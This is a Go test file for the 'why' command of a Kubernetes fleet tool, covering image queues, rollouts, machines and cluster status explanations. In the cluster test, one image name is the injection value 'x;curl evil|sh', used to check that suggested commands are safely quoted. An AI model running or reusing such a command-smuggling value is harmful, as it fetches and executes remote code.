package why_test

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/pelotech/ot-fleet/api/apitest"
	"github.com/pelotech/ot-fleet/api/explain"
	"github.com/pelotech/ot-fleet/api/readapi"
	"github.com/pelotech/ot-fleet/api/v1alpha1"
	"github.com/pelotech/ot-fleet/cli/exit"
	"github.com/pelotech/ot-fleet/cli/render/rendertest"
	"github.com/pelotech/ot-fleet/cli/why"
)

var now = time.Date(2026, 3, 2, 16, 21, 0, 0, time.UTC)

const gib = 1 << 30

func ago(d time.Duration) metav1.Time { return metav1.NewTime(now.Add(-d)) }

// newImage returns an image in the queue; older ones go first.
func newImage(name string, phase v1alpha1.Phase, reason v1alpha1.Reason, age time.Duration, size int64) v1alpha1.VMDiskImage {
	img := v1alpha1.VMDiskImage{ObjectMeta: metav1.ObjectMeta{Namespace: "vmdi-farm", Name: name, UID: types.UID(name), CreationTimestamp: ago(age)}}
	img.Spec.URL, img.Spec.DiskSize = "https://images.example.com/"+name, *resource.NewQuantity(64*gib, resource.BinarySI)
	img.Status = v1alpha1.VMDiskImageStatus{
		Phase: phase, Reason: reason, Revision: "r1", BytesTotal: size,
		Revisions: []v1alpha1.RevisionStatus{{Revision: "r1", OrderingKey: v1alpha1.OrderingKey{Time: ago(age), Sequence: int64(age)}}},
	}
	return img
}

// newMember has three imports that run, and four images that wait, two of which go before
// ubuntu-24.
func newMember() why.Member {
	m := why.Member{Now: now, Cluster: "bergen", Ledger: &v1alpha1.SyncLedger{Status: &v1alpha1.SyncLedgerStatus{
		Budget: 3, PlanPolicy: map[string]string{"concurrency": "3", "retryLimit": "3"}, PlanPolicySource: "fleet default",
		Grant: &v1alpha1.LedgerGrant{Slots: 3},
	}}}
	for i, name := range []string{"rhel-9", "win-11", "fedora-42"} {
		img := newImage(name, v1alpha1.PhaseSyncing, v1alpha1.ReasonImporting, time.Hour, int64(24+18*i)*gib)
		img.Status.BytesDone, img.Status.Attempts = int64(19-7*i)*gib, 1
		m.Images = append(m.Images, img)
		m.Ledger.Status.Slots = append(m.Ledger.Status.Slots, v1alpha1.Slot{
			Image: v1alpha1.ImageKey{Namespace: "vmdi-farm", Name: name, UID: types.UID(name)}, StartedAt: ago(10 * time.Minute), Host: "images.example.com", Attempt: 1,
		})
	}
	backsOff := newImage("ubuntu-22", v1alpha1.PhaseQueued, v1alpha1.ReasonBackingOff, 30*time.Minute, 12*gib)
	backsOff.Status.Attempts, backsOff.Status.Revisions[0].NotBefore = 2, ptr.To(metav1.NewTime(now.Add(10*time.Minute)))
	ubuntu := newImage("ubuntu-24", v1alpha1.PhaseQueued, v1alpha1.ReasonWaitingForSlot, 14*time.Minute, 24*gib)
	ubuntu.Status.Message = "waits for a slot"
	ubuntu.Status.References = v1alpha1.References{Count: 7, Holders: []string{"workspace-7/desk-2", "workspace-9/build-1"}}
	m.Images = append(m.Images, ubuntu, backsOff, newImage("debian-13", v1alpha1.PhaseQueued, v1alpha1.ReasonWaitingForSlot, 40*time.Minute, 8*gib),
		newImage("arch", v1alpha1.PhaseQueued, v1alpha1.ReasonWaitingForSlot, time.Minute, 64*gib), newImage("alma-9", v1alpha1.PhaseSucceeded, v1alpha1.ReasonReady, time.Hour, gib))
	m.Reported = &v1alpha1.ReportedActivity{Rates: []v1alpha1.SourceRate{{Name: v1alpha1.SourceOther, P20: 40 << 20, P50: 60 << 20, P80: 80 << 20, Samples: 12, OverheadSeconds: 40}}}
	m.Reported.Active = []v1alpha1.ActiveImport{{Namespace: "vmdi-farm", Name: "rhel-9", Source: v1alpha1.SourceOther, BytesTotal: 24 * gib, BytesPerSecond: 62 << 20}}
	return m
}

func TestQueuedImage(t *testing.T) {
	w := why.NewImage(newMember().OfImage("vmdi-farm", "ubuntu-24"))
	rendertest.Golden(t, "image-queued", now, w)
	assert.Equal(t, exit.NotYet, w.ExitCode())
	require.NotNil(t, w.GoFirst)
	assert.Equal(t, 2, *w.GoFirst)
	require.NotNil(t, w.Sooner)
	assert.Contains(t, w.Summary(), "expected at")
}

// A larger concurrency is advised only where the policy's is the limit.
func TestConcurrencyIsAdvisedWhereThePolicyLimits(t *testing.T) {
	s := newMember().OfImage("vmdi-farm", "ubuntu-24")
	s.Budget.PolicyConcurrency = ptr.To[int32](10)
	require.Nil(t, why.NewImage(s).Sooner, "the grant is the limit")
	s.Budget.PolicyConcurrency, s.Budget.OwnConcurrency = ptr.To[int32](3), ptr.To[int32](3)
	require.Nil(t, why.NewImage(s).Sooner, "the cluster's own ConfigMap is a limit, too")
}

func TestQueueHasTheAgentsOrder(t *testing.T) {
	m := newMember()
	first := newImage("z-first", v1alpha1.PhaseQueued, v1alpha1.ReasonWaitingForSlot, time.Second, gib)
	first.Spec.Priority = 5
	m.Images = append(m.Images, first)
	assert.Equal(t, 4, *why.NewImage(m.OfImage("vmdi-farm", "z-first")).GoFirst, "the policy's maxPriority is 0")
	m.Ledger.Status.PlanPolicy["maxPriority"] = "5"
	assert.Equal(t, 0, *why.NewImage(m.OfImage("vmdi-farm", "z-first")).GoFirst)
}

func TestImageVerdicts(t *testing.T) {
	for name, tt := range map[string]struct {
		change   func(*v1alpha1.VMDiskImage, *why.Member)
		image    string
		wantCode exit.Code
	}{
		"ready":     {image: "alma-9", wantCode: exit.Yes},
		"importing": {image: "rhel-9", wantCode: exit.NotYet},
		"failed": {func(i *v1alpha1.VMDiskImage, _ *why.Member) {
			i.Status.Phase, i.Status.Reason = v1alpha1.PhaseFailed, v1alpha1.ReasonNotFound
		}, "ubuntu-24", exit.No},
		"a person has to act": {func(i *v1alpha1.VMDiskImage, _ *why.Member) { i.Status.Reason = v1alpha1.ReasonSecretMissing }, "ubuntu-24", exit.Held},
		"paused": {func(i *v1alpha1.VMDiskImage, m *why.Member) {
			i.Status.Reason, m.Ledger.Status.Budget = v1alpha1.ReasonPaused, 0
		}, "ubuntu-24", exit.Held},
		"waits for a window": {func(i *v1alpha1.VMDiskImage, m *why.Member) {
			i.Status.Reason, m.Ledger.Status.Budget = v1alpha1.ReasonWaitingForWindow, 0
		}, "ubuntu-24", exit.NotYet},
		"nothing granted": {func(i *v1alpha1.VMDiskImage, m *why.Member) {
			i.Status.Reason, m.Ledger.Status.Budget = v1alpha1.ReasonWaitingForFleet, 0
		}, "ubuntu-24", exit.NotYet},
		"no activity was report": {func(_ *v1alpha1.VMDiskImage, m *why.Member) { m.Reported = nil }, "ubuntu-24", exit.NotYet},
		"no ledger":              {func(_ *v1alpha1.VMDiskImage, m *why.Member) { m.Ledger = nil }, "ubuntu-24", exit.NotYet},
	} {
		t.Run(name, func(t *testing.T) {
			m := newMember()
			for i := range m.Images {
				if m.Images[i].Name == tt.image && tt.change != nil {
					tt.change(&m.Images[i], &m)
				}
			}
			w := why.NewImage(m.OfImage("vmdi-farm", tt.image))
			assert.Equal(t, tt.wantCode, w.ExitCode())
			rendertest.CheckNumbers(t, now, w)
		})
	}
}

// Plan and ConfigMap are said to allow what they do now.
func TestBudgetFollowsWindows(t *testing.T) {
	m := newMember()
	open := "[{cron: \"* * * * *\", duration: 5m, concurrency: 7}]"
	m.Ledger.Status.PlanPolicy = map[string]string{"concurrency": "0", "windows": open}
	m.Ledger.Status.OwnWindows, m.Ledger.Status.OwnConcurrency = open, nil
	b := m.OfImage("vmdi-farm", "ubuntu-24").Budget
	assert.EqualValues(t, 7, *b.PolicyConcurrency)
	assert.EqualValues(t, 7, *b.OwnConcurrency)
	m.Ledger.Status.OwnWindows = "[{cron: \"0 0 29 2 *\", duration: 5m, concurrency: 7}]"
	assert.Nil(t, m.OfImage("vmdi-farm", "ubuntu-24").Budget.OwnConcurrency, "it sets none outside of its window")
}

func TestFailedImage(t *testing.T) {
	m := newMember()
	m.Images[3].Status.Phase, m.Images[3].Status.Reason = v1alpha1.PhaseFailed, v1alpha1.ReasonNotFound
	m.Images[3].Status.Message = `the source answered "404 Not Found"`
	rendertest.Golden(t, "image-failed", now, why.NewImage(m.OfImage("vmdi-farm", "ubuntu-24")))
}

// The hub says the same of the head of the queue.
func TestImageByTheReadAPI(t *testing.T) {
	exact := newMember().OfImage("vmdi-farm", "ubuntu-24")
	at, low, high := metav1.NewTime(now.Add(21*time.Minute)), metav1.NewTime(now.Add(16*time.Minute)), metav1.NewTime(now.Add(34*time.Minute))
	answer := &readapi.Why{
		Cluster: "bergen", Namespace: "vmdi-farm", Name: "ubuntu-24", ReportedAt: ptr.To(ago(3 * time.Second)),
		Image:    &v1alpha1.ReportedImage{Phase: v1alpha1.PhaseQueued, Reason: v1alpha1.ReasonWaitingForSlot, References: 2},
		Position: ptr.To(2), Expected: &readapi.Estimate{At: &at, Earliest: &low, Latest: &high},
		Budget:   readapi.WhyBudget{PolicyConcurrency: ptr.To[int32](3), PolicySource: "fleet default", Budget: ptr.To[int32](3), Slots: ptr.To[int32](3), FleetConcurrency: ptr.To[int64](20), Transfers: &v1alpha1.MemberTransfers{Granted: 3}},
		Activity: &readapi.WhyActivity{ObservedAt: ago(3 * time.Second), Queued: 25, Rates: exact.Activity.Rates},
	}
	for _, a := range exact.Activity.Active {
		answer.Activity.Active = append(answer.Activity.Active, readapi.ActiveEntry{ActiveImport: readapi.ActiveImport(a)})
	}
	for _, q := range exact.Activity.Head {
		answer.Activity.Head = append(answer.Activity.Head, readapi.QueuedEntry{QueuedImport: readapi.QueuedImport(q)})
	}
	w := why.NewImage(explain.FromReadAPI(now, answer))
	rendertest.Golden(t, "image-by-hub", now, w)
	assert.Equal(t, exit.NotYet, w.ExitCode())

	answer.Unknown = v1alpha1.ReasonSilent
	assert.Equal(t, exit.Unknown, why.NewImage(explain.FromReadAPI(now, answer)).ExitCode())
	answer.Unknown, answer.Image = "", nil
	assert.Equal(t, exit.Unknown, why.NewImage(explain.FromReadAPI(now, answer)).ExitCode(), "no such image is reported")
	answer.Planned = true
	assert.Equal(t, exit.NotYet, why.NewImage(explain.FromReadAPI(now, answer)).ExitCode())
	answer.Activity, answer.Position, answer.Expected = nil, nil, nil
	answer.Image = &v1alpha1.ReportedImage{Plan: &v1alpha1.PlanItemReport{State: v1alpha1.PlanItemWaiting, Reason: v1alpha1.ReasonNamespaceMissing, Message: "namespace vmdi-farm does not exist: create it"}}
	w = why.NewImage(explain.FromReadAPI(now, answer))
	assert.Equal(t, exit.Held, w.ExitCode(), "as rollout status says of the cluster")
	rendertest.Golden(t, "image-planned", now, w)
	answer.Image.Plan = &v1alpha1.PlanItemReport{State: v1alpha1.PlanItemRejected, Message: "namespace vmdi-farm is not allowed"}
	assert.Equal(t, exit.No, why.NewImage(explain.FromReadAPI(now, answer)).ExitCode(), "as image wait --for in= says")
}

func TestImageByTheHubsKinds(t *testing.T) {
	member := &v1alpha1.MemberCluster{ObjectMeta: metav1.ObjectMeta{Name: "bergen"}}
	page := func(name string, sequence int64, images ...v1alpha1.ReportedImage) v1alpha1.ClusterReport {
		return v1alpha1.ClusterReport{ObjectMeta: metav1.ObjectMeta{Name: name}, Sequence: sequence, Page: &v1alpha1.ReportPage{Images: images}}
	}
	reports := []v1alpha1.ClusterReport{
		{ObjectMeta: metav1.ObjectMeta{Name: v1alpha1.MailboxName}, Root: &v1alpha1.ReportRoot{Pages: []v1alpha1.PageRef{{Name: "p1"}, {Name: "p2"}}}},
		page("p1", 3, v1alpha1.ReportedImage{Namespace: "vmdi-farm", Name: "ubuntu-24", UID: "1", Phase: v1alpha1.PhaseQueued, Reason: v1alpha1.ReasonWaitingForSlot},
			v1alpha1.ReportedImage{Namespace: "vmdi-farm", Name: "pruned", Prune: &v1alpha1.ReportedPrune{ImageUID: "2"}}),
		page("p2", 2, v1alpha1.ReportedImage{Namespace: "vmdi-farm", Name: "ubuntu-24", UID: "1", Phase: v1alpha1.PhaseSucceeded}), // from which it moved
		page("p3", 9, v1alpha1.ReportedImage{Namespace: "vmdi-farm", Name: "unlisted", UID: "3"}),
		{Activity: newMember().OfImage("vmdi-farm", "ubuntu-24").Activity},
	}
	member.Status.LastReport = ptr.To(ago(time.Second))
	w := why.NewImage(why.FromKinds(now, "vmdi-farm", "ubuntu-24", member, reports))
	assert.Equal(t, exit.NotYet, w.ExitCode())
	assert.NotNil(t, w.Expected.At)
	for _, name := range []string{"pruned", "unlisted"} {
		assert.True(t, why.FromKinds(now, "vmdi-farm", name, member, reports).Missing, name)
	}
	member.Status.SilentSince = ptr.To(ago(2 * time.Hour))
	w = why.NewImage(why.FromKinds(now, "vmdi-farm", "ubuntu-24", member, reports))
	assert.Equal(t, exit.Unknown, w.ExitCode())
	assert.Nil(t, w.Expected, "a silent cluster is not estimated")
	rendertest.Golden(t, "image-silent", now, w)
}

func TestMachine(t *testing.T) {
	machine := &v1alpha1.VirtualMachine{ObjectMeta: metav1.ObjectMeta{Namespace: "workspace-7", Name: "desk-2"}}
	machine.Status = v1alpha1.VirtualMachineStatus{
		Phase: v1alpha1.MachineProvisioning, Reason: v1alpha1.ReasonWaitingForImage, Message: "image vmdi-farm/ubuntu-24 is Queued",
		Conditions: []metav1.Condition{
			{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: "WaitingForImage", LastTransitionTime: ago(14 * time.Minute)},
			{Type: v1alpha1.ConditionImageAcquired, Status: metav1.ConditionFalse, Reason: "WaitingForImage", Message: "vmdi-farm/ubuntu-24 is Queued"},
			{Type: v1alpha1.ConditionRootDiskReady, Status: metav1.ConditionFalse, Reason: "WaitingForImage", Message: "is cloned once the image is ready"},
			{Type: v1alpha1.ConditionMachineCreated, Status: metav1.ConditionFalse, Reason: "WaitingForImage"},
		},
	}
	image := newMember().OfImage("vmdi-farm", "ubuntu-24")
	w := why.NewMachine(why.MachineSnapshot{Now: now, Cluster: "bergen", Machine: machine, Image: &image})
	rendertest.Golden(t, "machine", now, w)
	assert.Equal(t, exit.NotYet, w.ExitCode())
	w = why.NewMachine(why.MachineSnapshot{Now: now, Machine: machine, Image: &image, Scope: []string{"--cluster", "bergen", "--live"}})
	assert.Equal(t, "kubectl ot why image ubuntu-24 -n vmdi-farm --cluster bergen --live", w.Command)
	image.Phase, image.Reason = v1alpha1.PhaseFailed, v1alpha1.ReasonNotFound
	assert.Equal(t, exit.No, why.NewMachine(why.MachineSnapshot{Now: now, Machine: machine, Image: &image}).ExitCode(), "its image failed")
	machine.Status.Phase = v1alpha1.MachineFailed
	assert.Equal(t, exit.No, why.NewMachine(why.MachineSnapshot{Now: now, Machine: machine}).ExitCode())
	unseen := why.MachineSnapshot{
		Now: now, Scope: []string{"--live", "--member-context", "lab"},
		Machine: &v1alpha1.VirtualMachine{ObjectMeta: machine.ObjectMeta, Status: v1alpha1.VirtualMachineStatus{ObservedGeneration: -1}},
	}
	w = why.NewMachine(unseen)
	assert.Equal(t, "workspace-7/desk-2: new", w.Summary())
	assert.Equal(t, "the agent has not processed it yet", w.Message)
	assert.Equal(t, "kubectl ot doctor --live --member-context lab", w.Command, "that shows whether it runs")
	unseen.Image = &image
	assert.Equal(t, w.Command, why.NewMachine(unseen).Command, "its image does not hold it up")
	machine.Status.Conditions[0].Status = metav1.ConditionTrue
	assert.Equal(t, exit.Yes, why.NewMachine(why.MachineSnapshot{Now: now, Machine: machine, Image: &image}).ExitCode())
}

func TestRollout(t *testing.T) {
	wave := v1alpha1.Wave{Name: "production", RequireApproval: true}
	status := v1alpha1.FleetDiskImageStatus{
		Phase: v1alpha1.RolloutWaiting, Reason: v1alpha1.ReasonAwaitingApproval, CurrentWave: "production", ExpectedReason: v1alpha1.ReasonAwaitingApproval,
		Message: "wave production, with 37 clusters to start, needs approval: kubectl patch fdi win-11",
		Waves: []v1alpha1.WaveStatus{
			{Name: "canary", Clusters: v1alpha1.ClusterCounts{Total: 3, Succeeded: 3}, DoneAt: ptr.To(ago(6 * time.Hour))},
			{Name: "production", Clusters: v1alpha1.ClusterCounts{Total: 37, ToApply: 37}},
		},
		Clusters: v1alpha1.ClusterCounts{Total: 40, Succeeded: 3, ToApply: 37},
	}
	img := apitest.FleetDiskImage("win-11").WithVersion("24.2").WithWave("canary").WithWaves(wave).WithMinSuccessTime(time.Hour).WithStatus(status).Obj()
	img.Status.ObservedGeneration = img.Generation
	w := why.NewRollout(why.RolloutSnapshot{Now: now, Image: img, MayApprove: ptr.To(true)})
	rendertest.Golden(t, "rollout-approval", now, w)
	assert.Equal(t, exit.Held, w.ExitCode())
	assert.Equal(t, "approve", why.VerbToGoOn(img))
	paused := img.DeepCopy()
	paused.Status.Reason = v1alpha1.ReasonRolloutPaused
	assert.Equal(t, "patch", why.VerbToGoOn(paused))

	img.Status.Phase, img.Status.Reason, img.Status.Message, img.Status.ExpectedReason = v1alpha1.RolloutProgressing, v1alpha1.ReasonMaxConcurrency, "9 of 37 clusters are in progress", ""
	img.Status.ExpectedAt = ptr.To(metav1.NewTime(now.Add(90 * time.Minute)))
	img.Status.Waves[1].Clusters = v1alpha1.ClusterCounts{Total: 37, Succeeded: 9, Progressing: 9, ToApply: 18, Failed: 1}
	img.Status.Failing = []v1alpha1.ClusterSummary{{Cluster: "lab", State: v1alpha1.ClusterFailed, Reason: "NotFound", Message: `the source answered "404 Not Found"`}}
	w = why.NewRollout(why.RolloutSnapshot{Now: now, Image: img})
	rendertest.Golden(t, "rollout-progressing", now, w)
	assert.Equal(t, exit.NotYet, w.ExitCode())

	waiting := img.DeepCopy()
	waiting.Status.Phase, waiting.Status.Reason, waiting.Status.Failing = v1alpha1.RolloutWaiting, v1alpha1.ReasonRolloutWaitingForWindow, nil
	waiting.Status.Message = "2 clusters wait for a window of the policy (bergen, lab); the first one opens at " + now.Add(time.Hour).UTC().Format(time.RFC3339)
	waiting.Status.Waves[1].Clusters = v1alpha1.ClusterCounts{Total: 37, Succeeded: 35, Progressing: 2}
	w = why.NewRollout(why.RolloutSnapshot{Now: now, Image: waiting})
	rendertest.Golden(t, "rollout-window", now, w)
	assert.Equal(t, exit.NotYet, w.ExitCode())
	assert.Empty(t, w.Command, "nobody has to do anything")

	img.Status.Phase = v1alpha1.RolloutSucceeded
	assert.Equal(t, exit.Yes, why.NewRollout(why.RolloutSnapshot{Now: now, Image: img}).ExitCode())
	img.Status.Phase = v1alpha1.RolloutFailed
	assert.Equal(t, exit.No, why.NewRollout(why.RolloutSnapshot{Now: now, Image: img}).ExitCode())
	img.Status.Phase, img.Status.Reason = v1alpha1.RolloutWaiting, v1alpha1.ReasonOfflineClusters
	assert.Equal(t, exit.Unknown, why.NewRollout(why.RolloutSnapshot{Now: now, Image: img}).ExitCode(), "as rollout status")
	img.Generation++
	w = why.NewRollout(why.RolloutSnapshot{Now: now, Image: img})
	assert.Equal(t, exit.NotYet, w.ExitCode(), "the status is about the former spec")
	assert.Empty(t, w.Failing)
	assert.Equal(t, "win-11 24.2: unprocessed", w.Summary(), "a pause is enough for that: the version is not new")
	assert.Nil(t, w.Clusters, "unknown is not zero")
	assert.Nil(t, w.Waves)
}

func TestCluster(t *testing.T) {
	member := &v1alpha1.MemberCluster{ObjectMeta: metav1.ObjectMeta{Name: "edge-3"}}
	member.Status = v1alpha1.MemberClusterStatus{
		LastReport: ptr.To(ago(2 * time.Hour)), SilentSince: ptr.To(ago(2 * time.Hour)), AgentVersion: "v0.3.0", Budget: ptr.To[int32](3), SlotsUsed: ptr.To[int32](1),
		Policy: &v1alpha1.MemberPolicy{Data: map[string]string{"concurrency": "4"}}, OwnConcurrency: ptr.To[int32](3),
		Transfers: &v1alpha1.MemberTransfers{Granted: 3, HeldUntil: ptr.To(metav1.NewTime(now.Add(3 * time.Hour)))},
		Images:    &v1alpha1.MemberImages{Total: 12, Ready: 9, Queued: 2, Syncing: 1},
		Conditions: []metav1.Condition{
			{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonSilent, Message: "its agent has not reported for 2 minutes: check its Pod there", LastTransitionTime: ago(2 * time.Hour)},
			{Type: v1alpha1.ConditionAgentHealthy, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonSilent, Message: "its agent has not reported for 2 minutes", LastTransitionTime: ago(2 * time.Hour)},
			{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionFalse},
		},
	}
	w := why.NewCluster(now, member)
	rendertest.Golden(t, "cluster-silent", now, w)
	assert.Equal(t, exit.Unknown, w.ExitCode())

	member.Status.SilentSince, member.Status.Conditions[0].Status = nil, metav1.ConditionTrue
	assert.Equal(t, exit.Yes, why.NewCluster(now, member).ExitCode())
	member.Status.Failing = []v1alpha1.ImageSummary{{Namespace: "vmdi-farm", Name: "centos-5", Reason: v1alpha1.ReasonNotFound, Message: "404"}}
	w = why.NewCluster(now, member)
	assert.Equal(t, exit.No, w.ExitCode())
	rendertest.Golden(t, "cluster-failing", now, w)
	assert.Equal(t, []any{"Failing", "1 failed image", (*metav1.Time)(nil)}, []any{w.Reason, w.Message, w.Since}, "its conditions are all well")
	assert.Equal(t, []string{"kubectl ot why image centos-5 -n vmdi-farm --cluster edge-3"}, w.Commands)
	member.Status.Failing[0].Name = "x;curl evil|sh"
	assert.Equal(t, []string{"kubectl ot why image 'x;curl evil|sh' -n vmdi-farm --cluster edge-3"}, why.NewCluster(now, member).Commands, "a member names its images")
	member.Spec.Quarantine = &v1alpha1.MemberQuarantine{Reason: "rebuilt"}
	assert.Equal(t, exit.Held, why.NewCluster(now, member).ExitCode())
	never := &v1alpha1.MemberCluster{}
	assert.Equal(t, exit.Unknown, why.NewCluster(now, never).ExitCode())
	never.Status.Conditions = []metav1.Condition{
		{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonJoinTokenExpired, Message: "its join token has expired"},
		{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue},
	}
	w = why.NewCluster(now, never)
	assert.Equal(t, exit.No, w.ExitCode(), "somebody has to act")
	assert.Equal(t, []string{v1alpha1.ReasonJoinTokenExpired, "its join token has expired"}, []string{w.Reason, w.Message})
	assert.Empty(t, w.Commands, "no agent is looked for")
}
